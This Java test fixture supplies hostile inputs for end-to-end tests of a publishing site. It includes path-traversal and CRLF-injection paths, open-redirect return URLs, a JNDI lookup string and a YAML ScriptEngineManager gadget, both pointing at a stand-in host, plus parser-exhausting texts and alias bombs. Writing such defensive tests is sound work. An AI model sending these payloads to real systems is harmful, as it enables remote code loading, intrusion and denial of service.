package broadsheet.e2e;

import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.IntStream;

/** Paths, texts and front matter that nobody sends who means well. */
final class HostileInputs {
    private static final String ARTICLE = "open-weights-changed-the-race";
    static final String ELSEWHERE = "elsewhere.example";

    static final List<String> PATHS = List.of(
            "/articles/../../../etc/passwd",
            "/articles/..%2f..%2f..%2fetc%2fpasswd",
            "/articles/%2e%2e/%2e%2e/",
            "/articles/..\\..\\windows",
            "/ARTICLES/" + ARTICLE,
            "/Articles/Open-Weights-Changed-The-Race",
            "//articles//" + ARTICLE,
            "/articles/" + ARTICLE + "/",
            "/articles/" + ARTICLE + "//",
            "/articles/" + ARTICLE + ";a=b",
            "/articles/" + ARTICLE + "%00",
            "/articles/" + ARTICLE + "%0d%0aSet-Cookie:%20a=b",
            "/articles/%ff%fe",
            "/articles/%c0%ae%c0%ae",
            "/articles/%",
            "/articles/%zz",
            "/articles/%25252e",
            "/articles/" + "a".repeat(7_000),
            "/articles/" + "a/".repeat(2_000),
            "/" + "%41".repeat(2_000),
            "/articles/" + ARTICLE + "?" + "a=b&".repeat(1_500),
            "/cards/../assets/",
            "/cards/" + ARTICLE + ".png%00.html",
            "/pictures/../../uploads",
            "/data/articles/..%2f..%2fSITE.json",
            "/feed.xml?" + "x".repeat(6_000),
            "/@if(true)",
            "/${jndi:ldap://" + ELSEWHERE + "/a}",
            "/.git/config",
            "/9999-12/",
            "/tags/a/9999-12/",
            "/sitemap-999999.xml",
            "/api/..%2f..%2f",
            "/api/articles/..%2fsite",
            "/api/articles/%2e%2e/site",
            "/api/articles/" + "a".repeat(5_000),
            "/api/articles/A-B",
            "/api/articles/" + ARTICLE + "%2fcomments",
            "/api/articles?limit=99999999999999999999",
            "/api/articles?limit=-1",
            "/api/articles?limit=%00",
            "/api/articles?limit=1&limit=2",
            "/api/articles?cursor=" + "A".repeat(5_000),
            "/api/articles?cursor=%ff",
            "/api/articles?cursor=eyJwayI6IlNJVEUifQ",
            "/api/articles?" + "limit".repeat(1_000),
            "/api/articles/" + ARTICLE + "/comments?cursor=99999999999999999999999",
            "/api/articles/" + ARTICLE + "/comments?cursor=-5",
            "/api/sections/..%2f/articles",
            "/api/tags/%F0%9F%92%A9/articles",
            "/api/session/start?return=https://" + ELSEWHERE + "/",
            "/api/session/start?return=//" + ELSEWHERE + "/",
            "/api/session/start?return=/%5C" + ELSEWHERE + "/",
            "/api/session/start?return=/%09/" + ELSEWHERE + "/",
            "/api/session/callback?code=" + "c".repeat(5_000) + "&state=x",
            "/api/nothing/here");

    /** What makes a pattern that tries every way take long, or a parser that calls itself run out of its stack. */
    static final Map<String, String> TEXTS = new TreeMap<>(Map.ofEntries(
            Map.entry("stars", "*".repeat(50_000)),
            Map.entry("stars and letters", "*a".repeat(25_000)),
            Map.entry("underscores", "_a_".repeat(20_000)),
            Map.entry("open brackets", "[".repeat(50_000)),
            Map.entry("open links", "[a](".repeat(15_000)),
            Map.entry("open pictures", "![".repeat(25_000)),
            Map.entry("nested brackets", "[".repeat(20_000) + "a" + "]".repeat(20_000)),
            Map.entry("backticks of all lengths", ticks()),
            Map.entry("quotes in quotes", "> ".repeat(10_000) + "a"),
            Map.entry("lists in lists", "- ".repeat(5_000) + "a"),
            Map.entry("open tags", "<a ".repeat(20_000)),
            Map.entry("open comments", "<!--".repeat(15_000)),
            Map.entry("tags in tags", "<div>".repeat(10_000)),
            Map.entry("open entities", "&".repeat(60_000)),
            Map.entry("a table of many columns", "|a".repeat(2_000) + "|\n" + "|-".repeat(2_000) + "|\n|b|\n"),
            Map.entry(
                    "short rows of a wide table",
                    "|a".repeat(1_000) + "|\n" + "|-".repeat(1_000) + "|\n" + "|b|\n".repeat(1_000)),
            Map.entry(
                    "notes of notes",
                    IntStream.range(0, 2_000)
                            .mapToObj("[^%1$d]: [^%1$d]\n"::formatted)
                            .reduce("", String::concat)),
            Map.entry("blank lines", "\n \t".repeat(20_000)),
            Map.entry("spaces before a line's end", "a" + " ".repeat(60_000) + "b"),
            Map.entry("an address that never ends", "https://a." + "a.".repeat(25_000)),
            Map.entry("addresses", "http://".repeat(8_000)),
            Map.entry("quotation marks", "\"'".repeat(25_000)),
            Map.entry("dashes", "-".repeat(60_000)),
            Map.entry("dots", "a.b.".repeat(15_000)),
            Map.entry("template tags", "{% raw %}".repeat(6_000)),
            Map.entry("open template tags", "{{<".repeat(20_000)),
            Map.entry("empty template tags, each in its line", "{{}}\n".repeat(65_000) + "a"),
            Map.entry("quotations without end in template tags", "{{ \"/a' | url }} {{ \"https://a | embed }} ")));

    static final Map<String, String> FRONT_MATTERS = Map.of(
            "aliases of aliases",
                    "a: &a [x,x,x,x,x,x,x,x,x]\n"
                            + IntStream.range(1, 12)
                                    .mapToObj(n -> "a%1$d: &a%1$d [%2$s]\n"
                                            .formatted(
                                                    n,
                                                    String.join(
                                                            ",",
                                                            Collections.nCopies(9, n == 1 ? "*a" : "*a" + (n - 1)))))
                                    .reduce("", String::concat)
                            + "tags: *a11",
            "an alias of itself", "tags: &a [*a]",
            "deep lists", "tags: " + "[".repeat(20_000),
            "deep maps", "tags: " + "{a: ".repeat(20_000),
            "a class to make",
                    "tags: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://" + ELSEWHERE + "\"]]",
            "an anchor without end", "tags: &" + "a".repeat(50_000),
            "many keys",
                    IntStream.range(0, 20_000).mapToObj(n -> "k" + n + ": v\n").reduce("", String::concat),
            "a key many times", "title: a\n".repeat(5_000),
            "a number of many digits", "date: " + "9".repeat(50_000),
            "many documents", "---\n".repeat(5_000));

    private HostileInputs() {}

    private static String ticks() {
        return IntStream.range(1, 300).mapToObj(n -> "`".repeat(n) + "a").reduce("", String::concat);
    }
}
